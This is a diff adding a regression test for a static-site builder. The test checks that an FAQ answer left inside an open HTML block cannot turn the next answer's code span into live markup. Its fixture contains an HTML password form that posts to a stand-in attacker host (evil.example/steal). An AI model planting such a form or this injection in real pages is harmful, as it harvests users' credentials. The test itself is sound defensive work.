@@ -103,3 +103,31 @@ def test_theme_classes_lay_an_owner_link_over_the_whole_page(browser, tmp_path):
         }""")
         page.close()
     assert covered is None, f"an owner link ({covered}) lies over the middle of the page"
+
+
+def test_an_answer_left_inside_an_open_html_block_makes_the_next_answer_live_markup(browser, tmp_path):
+    """Each FAQ answer is checked alone, but the page is one Markdown text: an answer that ends
+    in an open `<div>` turns the rest of the page into raw HTML, so the next answer's code span
+    (harmless on its own) becomes a live password form posting to another site, and the next
+    question's heading is gone."""
+    site = built(tmp_path, {"content/teams/it/faq.yml": """\
+        questions:
+          - id: vpn
+            question: How do I use the VPN?
+            answer: |
+              Start it.
+
+              <div>
+          - id: wifi
+            question: Wi-Fi?
+            answer: |
+              Never type `<form action="https://evil.example/steal"><input type="password" name="pw"><button>Sign in</button></form>` into a page.
+        """})
+    with serve_directory(site) as origin:
+        page = browser.new_page()
+        page.goto(f"{origin}/teams/it/faq/")
+        forms = page.evaluate("() => [...document.forms].map(f => f.action).filter(a => a.includes('evil.example'))")
+        heading = page.evaluate("() => Boolean(document.getElementById('wifi'))")
+        page.close()
+    assert not forms, f"a form posting elsewhere: {forms}"
+    assert heading, "the second question's heading was swallowed"
